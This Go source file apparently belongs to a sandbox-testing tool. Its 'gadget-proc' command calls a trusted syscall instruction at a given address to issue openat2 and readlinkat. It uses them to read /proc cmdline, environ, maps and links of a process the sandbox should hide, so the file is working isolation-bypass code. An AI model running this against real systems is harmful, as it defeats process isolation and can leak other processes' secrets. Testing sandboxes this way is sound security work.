//go:build amd64

package main

import (
	"fmt"
	"os"
	"runtime"
	"strconv"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() { commands["gadget-proc"] = gadgetProc }

// gadgetProc attacks the trusted instruction of the fast path to learn of a
// process outside of the view. Its arguments are the addresses of that
// instruction, of the empty string and of the how table and its end, the first
// reserved descriptor and the one behind the last, and the process; "once" ends with
// the first success.
func gadgetProc(args []string) int {
	runtime.LockOSThread()
	var v [6]uintptr
	for i := range v {
		n, err := strconv.ParseUint(args[i], 0, 64)
		if err != nil {
			return fail("%v", err)
		}
		v[i] = uintptr(n)
	}
	at, empty, how, howEnd, first, end := v[0], v[1], v[2], v[3], v[4], v[5]
	pid, once := args[6], len(args) > 7
	proc, err := unix.Open("/proc", unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		return fail("/proc: %v", err)
	}
	if err := unix.Chdir("/proc"); err != nil {
		return fail("/proc: %v", err)
	}
	if _, err := os.ReadFile("/proc/" + pid + "/cmdline"); !os.IsNotExist(err) {
		return fail("the view shows process %s: %v", pid, err)
	}
	fdcwd := unix.AT_FDCWD
	type place struct {
		fd     uintptr
		prefix string
	}
	places := []place{{uintptr(proc), ""}, {uintptr(fdcwd), ""}}
	for fd := first; fd < end; fd++ {
		places = append(places, place{fd, "proc/"})
	}
	names, read := 0, 0
	for _, pl := range places {
		for _, name := range []string{"/cmdline", "/status", "/environ", "/maps", "", "/fd", "/exe", "/root", "/cwd", "/task/" + pid + "/cmdline"} {
			for h := how; h < howEnd; h += 32 {
				fd := int(callAt(at, unix.SYS_OPENAT2, &[6]uintptr{pl.fd, cstr(pl.prefix + pid + name), h, 24}))
				if fd < 0 {
					continue
				}
				names++
				if what := reads(at, empty, fd); what != "" {
					read++
					if once {
						fmt.Println("read")
						return 0
					}
					fmt.Printf("entry %d of descriptor %d: %s%s by %s\n", (h-how)/32, int32(pl.fd), pid, name, what)
				}
				unix.Close(fd)
			}
		}
	}
	fmt.Printf("names %d, read %d\n", names, read)
	return 0
}

// reads tries to get at the contents of fd, which may be an O_PATH descriptor
// of a file, a link or a directory, and says how that went.
func reads(at, empty uintptr, fd int) string {
	b := make([]byte, 256)
	n, err := unix.Read(fd, b)
	if err == nil && n > 0 {
		return "read"
	}
	self := "/proc/self/fd/" + strconv.Itoa(fd)
	if got, err := os.ReadFile(self); err == nil && len(got) > 0 {
		return "open of " + self
	}
	if r := int(callAt(at, unix.SYS_READLINKAT, &[6]uintptr{uintptr(fd), empty, uintptr(unsafe.Pointer(unsafe.SliceData(b))), 256})); r > 0 {
		return "readlinkat there"
	}
	if n, err := unix.Readlinkat(fd, "", b); err == nil && n > 0 {
		return "readlinkat"
	}
	for _, name := range []string{"cmdline", "status", "environ", "maps", "exe", "cwd", "root", "fd/0"} {
		if f, err := unix.Openat(fd, name, unix.O_RDONLY, 0); err == nil {
			unix.Close(f)
			return "openat of " + name
		}
		if n, err := unix.Readlinkat(fd, name, b); err == nil && n > 0 {
			return "readlinkat of " + name
		}
		if got, err := os.ReadFile(self + "/" + name); err == nil && len(got) > 0 {
			return "open of " + self + "/" + name
		}
	}
	if unix.Fchdir(fd) == nil {
		_, err := os.ReadFile("cmdline")
		unix.Chdir("/proc")
		if err == nil {
			return "fchdir"
		}
	}
	return ""
}
